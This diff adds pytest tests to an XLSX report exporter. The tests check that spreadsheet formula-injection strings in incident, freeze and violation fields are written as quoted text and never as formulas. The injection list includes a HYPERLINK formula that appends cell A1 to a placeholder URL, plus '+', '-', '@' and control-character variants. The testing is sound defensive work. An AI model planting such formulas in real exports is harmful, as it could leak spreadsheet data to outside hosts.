@@ -649,6 +649,95 @@ def test_xlsx_is_the_same_bytes_for_the_same_input() -> None:
     assert open_xlsx(first).properties.created == datetime(2022, 9, 5, 6, 0)
 
 
+HOSTILE = [
+    '=HYPERLINK("http://x"&A1,"Details")',
+    "+1+1",
+    "-2",
+    "@SUM(A1)",
+    "\t=1",
+    "\r=1",
+    "=1\r\n=2",
+]
+
+
+def hostile_report() -> ReportInput:
+    """Every free-text field an event can set holds a would-be formula."""
+    incidents = [
+        MajorIncident(
+            incident_id=text,
+            service=text,
+            title=text,
+            severity=1,
+            opened_at=datetime(2022, 3, 14, 8, 12, tzinfo=UTC),
+            resolved_at=datetime(2022, 3, 14, 10, 27, tzinfo=UTC),
+            duration_minutes=135.0,
+            affected=[text],
+        )
+        for text in HOSTILE
+    ]
+    freezes = [
+        FreezeInfo(
+            freeze_id=text,
+            starts_at=datetime(2022, 6, 20, 22, 0, tzinfo=UTC),
+            effective_end=datetime(2022, 8, 7, 22, 0, tzinfo=UTC),
+            scope=[text],
+            reason=text,
+        )
+        for text in HOSTILE
+    ]
+    violations = [
+        ViolationInfo(text, text, datetime(2022, 7, 5, 7, 30, tzinfo=UTC), text) for text in HOSTILE
+    ]
+    return seed_report(first_title=HOSTILE[0], summary=Summary(incidents, freezes, violations))
+
+
+def test_xlsx_text_never_becomes_a_formula() -> None:
+    data = render(hostile_report(), "sv", "xlsx")  # the council goal's Swedish title is set
+    with zipfile.ZipFile(io.BytesIO(data)) as z:
+        sheets = [z.read(n) for n in z.namelist() if n.startswith("xl/worksheets/sheet")]
+    assert len(sheets) == 4
+    assert not any(b"<f>" in xml or b"<f " in xml for xml in sheets)  # no formula element
+    wb = open_xlsx(data)
+    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
+    assert [c.coordinate for c in cells if c.data_type == "f"] == []
+    inc = wb["Incidenter"]
+    for row, text in enumerate(HOSTILE, start=2):
+        # incident id, service and title read back exactly, as text marked as such
+        assert [inc.cell(row, col).value for col in (1, 2, 3)] == [text, text, text]
+        assert all(inc.cell(row, col).quotePrefix for col in (1, 2, 3))
+        assert inc.cell(row, 4).value == 1 and inc.cell(row, 4).data_type == "n"
+        assert inc.cell(row, 7).value == 135 and inc.cell(row, 7).data_type == "n"
+        assert inc.cell(row, 5).value == datetime(2022, 3, 14, 9, 12)
+        assert wb["Förändringsstopp"].cell(row, 5).value == text
+        assert wb["Överträdelser"].cell(row, 4).value == text
+    goals = wb["Mål"]
+    header = next(r for r in range(1, 20) if goals.cell(r, 1).value == "Kommunfullmäktiges mål")
+    assert goals.cell(header + 1, 1).value == HOSTILE[0]
+    budget = goals.cell(header + 6, 4)
+    assert budget.value == -1412 and budget.data_type == "n"
+
+
+def test_xlsx_text_keeps_what_xml_can_hold() -> None:
+    title = "a\x01b\x1fc"  # control characters an XML file cannot carry
+    wb = open_xlsx(render(hostile_report_with_title(title), "en", "xlsx"))
+    assert wb["Incidents"]["C2"].value == "a\ufffdb\ufffdc"
+
+
+def hostile_report_with_title(title: str) -> ReportInput:
+    seed = seed_summary()
+    first = seed.major_incidents[0]
+    incident = MajorIncident(
+        first.incident_id,
+        first.service,
+        title,
+        first.severity,
+        first.opened_at,
+        first.resolved_at,
+        first.duration_minutes,
+    )
+    return seed_report(summary=Summary([incident], seed.freezes, seed.violations))
+
+
 def test_fixed_decimals_apply_to_every_format() -> None:
     ev = seed_evaluation()
     sick = ev.council_goals[1].board_goals[1].indicators[1]
